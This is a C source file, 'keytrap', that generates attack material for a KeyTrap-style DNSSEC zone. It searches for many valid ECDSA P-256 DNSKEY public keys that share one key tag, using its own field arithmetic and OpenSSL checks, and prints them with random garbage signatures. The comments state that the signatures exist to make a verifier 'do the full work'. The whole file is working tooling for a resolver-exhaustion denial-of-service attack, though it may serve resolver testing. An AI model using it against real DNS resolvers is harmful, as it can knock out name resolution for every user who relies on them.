/* keytrap — decoy DNSSEC keys for a KeyTrap-style zone (dnssec_zoo.sh): many valid ECDSA P-256
 * public keys whose DNSKEY records (flags 256, protocol 3, algorithm 13) share one key tag,
 * and garbage signatures (random r, s in [1, n-1]) to put in RRSIGs with that tag.
 *
 * usage: keytrap KEYS SIGS
 * prints: "tag T", then KEYS lines "key <base64 X||Y>", then SIGS lines "sig <base64 r||s>".
 *
 * Outline: the key tag (RFC 4034 Appendix B) is a checksum, so finding colliding keys is a
 * search: 512 chains of points Q_j + i·G are walked with affine additions whose inversions
 * are batched (Montgomery's trick) in a small P-256 field arithmetic of its own; every point's
 * tag is counted until one tag has KEYS points. Those points are then computed again with
 * OpenSSL from their scalars, which checks the arithmetic: a point OpenSSL does not rebuild
 * with the same tag is an error. No private key is kept. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <openssl/bn.h>
#include <openssl/ec.h>
#include <openssl/evp.h>
#include <openssl/obj_mac.h>
#include <openssl/rand.h>

#define CHAINS     512
#define POINTS_MAX (1u << 24) /* points searched at most (2^24: ~256 hits per tag) */
#define KEYS_MAX   1024
#define SIGS_MAX   4096

__extension__ typedef unsigned __int128 u128;
typedef uint64_t fe[4]; /* little-endian limbs, Montgomery form unless said otherwise */

static const fe P = {0xffffffffffffffffull, 0x00000000ffffffffull, 0x0000000000000000ull,
                     0xffffffff00000001ull};
static fe R2;  /* 2^512 mod p */
static fe ONE; /* 1 (plain): from_mont(a) = mul(a, ONE) */

static int fe_geq_p(const uint64_t *a)
{
	for (int i = 3; i >= 0; i--) {
		if (a[i] != P[i]) {
			return a[i] > P[i];
		}
	}
	return 1;
}

static void fe_sub_p(uint64_t *a)
{
	u128 b = 0;

	for (int i = 0; i < 4; i++) {
		u128 d = (u128)a[i] - P[i] - b;

		a[i] = (uint64_t)d;
		b = (d >> 64) & 1;
	}
}

/* r = a * b / 2^256 mod p (CIOS; -p^-1 mod 2^64 = 1 since p = -1 mod 2^64). */
static void fe_mul(fe r, const fe a, const fe b)
{
	uint64_t t[6] = {0};

	for (int i = 0; i < 4; i++) {
		u128 c = 0;
		uint64_t m;

		for (int j = 0; j < 4; j++) {
			c += (u128)a[j] * b[i] + t[j];
			t[j] = (uint64_t)c;
			c >>= 64;
		}
		c += t[4];
		t[4] = (uint64_t)c;
		t[5] = (uint64_t)(c >> 64);
		m = t[0];
		c = (u128)m * P[0] + t[0];
		c >>= 64;
		for (int j = 1; j < 4; j++) {
			c += (u128)m * P[j] + t[j];
			t[j - 1] = (uint64_t)c;
			c >>= 64;
		}
		c += t[4];
		t[3] = (uint64_t)c;
		t[4] = t[5] + (uint64_t)(c >> 64);
	}
	if (t[4] != 0 || fe_geq_p(t)) {
		fe_sub_p(t);
	}
	memcpy(r, t, sizeof(fe));
}

static void fe_sub(fe r, const fe a, const fe b)
{
	u128 d, bo = 0;
	uint64_t t[4];

	for (int i = 0; i < 4; i++) {
		d = (u128)a[i] - b[i] - bo;
		t[i] = (uint64_t)d;
		bo = (d >> 64) & 1;
	}
	if (bo) {
		u128 c = 0;

		for (int i = 0; i < 4; i++) {
			c += (u128)t[i] + P[i];
			t[i] = (uint64_t)c;
			c >>= 64;
		}
	}
	memcpy(r, t, sizeof(fe));
}

/* r = a^(p-2) (Fermat). */
static void fe_inv(fe r, const fe a)
{
	fe x;
	uint64_t e[4];

	memcpy(e, P, sizeof(e));
	e[0] -= 2;
	fe_mul(x, R2, ONE); /* 1 in Montgomery form */
	for (int i = 255; i >= 0; i--) {
		fe_mul(x, x, x);
		if ((e[i / 64] >> (i % 64)) & 1) {
			fe_mul(x, x, a);
		}
	}
	memcpy(r, x, sizeof(fe));
}

static int bn_to_fe(const BIGNUM *bn, fe out)
{
	uint8_t be[32];

	if (BN_bn2binpad(bn, be, 32) != 32) {
		return -1;
	}
	for (int i = 0; i < 4; i++) {
		out[i] = 0;
		for (int k = 0; k < 8; k++) {
			out[i] = (out[i] << 8) | be[(3 - i) * 8 + k];
		}
	}
	return 0;
}

/* RFC 4034 Appendix B over the DNSKEY RDATA 01 00 03 0d X Y. */
static uint16_t key_tag(const uint8_t xy[64])
{
	uint8_t rd[68] = {0x01, 0x00, 0x03, 0x0d};
	uint32_t ac = 0;

	memcpy(rd + 4, xy, 64);
	for (size_t i = 0; i < sizeof(rd); i++) {
		ac += (i & 1) ? rd[i] : (uint32_t)rd[i] << 8;
	}
	ac += (ac >> 16) & 0xffff;
	return (uint16_t)(ac & 0xffff);
}

/* The same from limbs (plain form): the 16-bit words of X and Y summed. */
static uint16_t key_tag_fe(const fe x, const fe y)
{
	uint32_t ac = 0x0100 + 0x030d;

	for (int i = 0; i < 4; i++) {
		for (int k = 0; k < 64; k += 16) {
			ac += (uint32_t)((x[i] >> k) & 0xffff) + (uint32_t)((y[i] >> k) & 0xffff);
		}
	}
	ac += (ac >> 16) & 0xffff;
	return (uint16_t)(ac & 0xffff);
}

static void b64_line(const char *label, const uint8_t *p, size_t len)
{
	unsigned char out[4 * ((64 + 2) / 3) + 1];

	EVP_EncodeBlock(out, p, (int)len);
	printf("%s %s\n", label, out);
}

/* scalar of chain j, step i: q0 + j * 2^32 + i (mod n). */
static int scalar_of(BIGNUM *s, const BIGNUM *q0, uint32_t j, uint32_t i, const BIGNUM *n,
                     BN_CTX *bc)
{
	BIGNUM *t = BN_new();
	int ok = t != NULL && BN_set_word(t, j) && BN_lshift(t, t, 32) && BN_add_word(t, i) &&
	         BN_mod_add(s, q0, t, n, bc);

	BN_free(t);
	return ok ? 0 : -1;
}

int main(int argc, char **argv)
{
	static fe x[CHAINS], y[CHAINS], d[CHAINS], c[CHAINS];
	static uint32_t count[65536];
	EC_GROUP *g = NULL;
	BN_CTX *bc = NULL;
	BIGNUM *q0 = NULL, *s = NULL, *bx = NULL, *by = NULL, *pbn = NULL, *tmp = NULL;
	const BIGNUM *n;
	EC_POINT *pt = NULL;
	uint16_t *tags = NULL;
	fe gx, gy;
	long keys, sigs;
	uint32_t found = 0, total = 0;
	int tag = -1, rc = 1;

	if (argc != 3 || (keys = strtol(argv[1], NULL, 10)) < 1 || keys > KEYS_MAX ||
	    (sigs = strtol(argv[2], NULL, 10)) < 0 || sigs > SIGS_MAX) {
		fprintf(stderr, "usage: keytrap KEYS(1-%d) SIGS(0-%d)\n", KEYS_MAX, SIGS_MAX);
		return 64;
	}
	g = EC_GROUP_new_by_curve_name(NID_X9_62_prime256v1);
	bc = BN_CTX_new();
	q0 = BN_new();
	s = BN_new();
	bx = BN_new();
	by = BN_new();
	pbn = BN_new();
	tmp = BN_new();
	tags = malloc(POINTS_MAX * sizeof(*tags));
	if (g == NULL || bc == NULL || q0 == NULL || s == NULL || bx == NULL || by == NULL ||
	    pbn == NULL || tmp == NULL || tags == NULL || (pt = EC_POINT_new(g)) == NULL) {
		goto out;
	}
	n = EC_GROUP_get0_order(g);
	/* constants: R2 = 2^512 mod p, ONE = 1 */
	memset(ONE, 0, sizeof(ONE));
	ONE[0] = 1;
	if (!EC_GROUP_get_curve(g, pbn, NULL, NULL, bc) || !BN_set_word(tmp, 1) ||
	    !BN_lshift(tmp, tmp, 512) || !BN_mod(tmp, tmp, pbn, bc) || bn_to_fe(tmp, R2) != 0) {
		goto out;
	}
	/* G and the chain starts, in Montgomery form */
	if (!EC_POINT_get_affine_coordinates(g, EC_GROUP_get0_generator(g), bx, by, bc) ||
	    bn_to_fe(bx, gx) != 0 || bn_to_fe(by, gy) != 0 || !BN_rand_range(q0, n)) {
		goto out;
	}
	fe_mul(gx, gx, R2);
	fe_mul(gy, gy, R2);
	for (uint32_t j = 0; j < CHAINS; j++) {
		if (scalar_of(s, q0, j, 0, n, bc) != 0 || !EC_POINT_mul(g, pt, s, NULL, NULL, bc) ||
		    !EC_POINT_get_affine_coordinates(g, pt, bx, by, bc) ||
		    bn_to_fe(bx, x[j]) != 0 || bn_to_fe(by, y[j]) != 0) {
			goto out;
		}
		fe_mul(x[j], x[j], R2);
		fe_mul(y[j], y[j], R2);
	}
	/* walk: every chain one step (P + G) per round, the tags counted */
	while (tag < 0) {
		fe inv, lam, t;

		if (total + CHAINS > POINTS_MAX) {
			fprintf(stderr, "keytrap: no tag reached %ld keys in %u points\n", keys,
			        total);
			goto out;
		}
		for (uint32_t j = 0; j < CHAINS; j++) {
			fe_sub(d[j], gx, x[j]);
			if (j == 0) {
				memcpy(c[0], d[0], sizeof(fe));
			} else {
				fe_mul(c[j], c[j - 1], d[j]);
			}
		}
		fe_inv(inv, c[CHAINS - 1]);
		for (uint32_t j = CHAINS; j-- > 0;) {
			fe dj, x3, px, py;

			if (j > 0) {
				fe_mul(dj, inv, c[j - 1]); /* 1 / d[j] */
				fe_mul(inv, inv, d[j]);
			} else {
				memcpy(dj, inv, sizeof(fe));
			}
			fe_sub(t, gy, y[j]);
			fe_mul(lam, t, dj);
			fe_mul(x3, lam, lam);
			fe_sub(x3, x3, x[j]);
			fe_sub(x3, x3, gx);
			fe_sub(t, x[j], x3);
			fe_mul(t, lam, t);
			fe_sub(y[j], t, y[j]);
			memcpy(x[j], x3, sizeof(fe));
			fe_mul(px, x[j], ONE);
			fe_mul(py, y[j], ONE);
			{
				uint16_t tg = key_tag_fe(px, py);

				tags[total + j] = tg;
				if (++count[tg] == (uint32_t)keys && tag < 0) {
					tag = tg;
				}
			}
		}
		total += CHAINS;
	}
	printf("tag %d\n", tag);
	/* the keys of that tag, rebuilt by OpenSSL from their scalars and checked */
	for (uint32_t k = 0; k < total && found < (uint32_t)keys; k++) {
		uint8_t oct[65];

		if (tags[k] != tag) {
			continue;
		}
		if (scalar_of(s, q0, k % CHAINS, k / CHAINS + 1, n, bc) != 0 ||
		    !EC_POINT_mul(g, pt, s, NULL, NULL, bc) ||
		    EC_POINT_point2oct(g, pt, POINT_CONVERSION_UNCOMPRESSED, oct, sizeof(oct),
		                       bc) != sizeof(oct) ||
		    key_tag(oct + 1) != tag) {
			fprintf(stderr, "keytrap: point %u does not check out\n", k);
			goto out;
		}
		b64_line("key", oct + 1, 64);
		found++;
	}
	if (found != (uint32_t)keys) {
		goto out;
	}
	/* garbage signatures: r and s uniformly in [1, n-1], so a verifier does the full work */
	for (long i = 0; i < sigs; i++) {
		uint8_t rs[64];

		for (int h = 0; h < 2; h++) {
			if (!BN_priv_rand_range(tmp, n)) {
				goto out;
			}
			if (BN_is_zero(tmp)) {
				h--;
				continue;
			}
			if (BN_bn2binpad(tmp, rs + 32 * h, 32) != 32) {
				goto out;
			}
		}
		b64_line("sig", rs, sizeof(rs));
	}
	fprintf(stderr, "keytrap: %ld keys with tag %d after %u points\n", keys, tag, total);
	rc = fflush(stdout) == 0 ? 0 : 1;
out:
	if (rc != 0) {
		fprintf(stderr, "keytrap: failed\n");
	}
	free(tags);
	EC_POINT_free(pt);
	BN_free(tmp);
	BN_free(pbn);
	BN_free(by);
	BN_free(bx);
	BN_free(s);
	BN_free(q0);
	BN_CTX_free(bc);
	EC_GROUP_free(g);
	return rc;
}
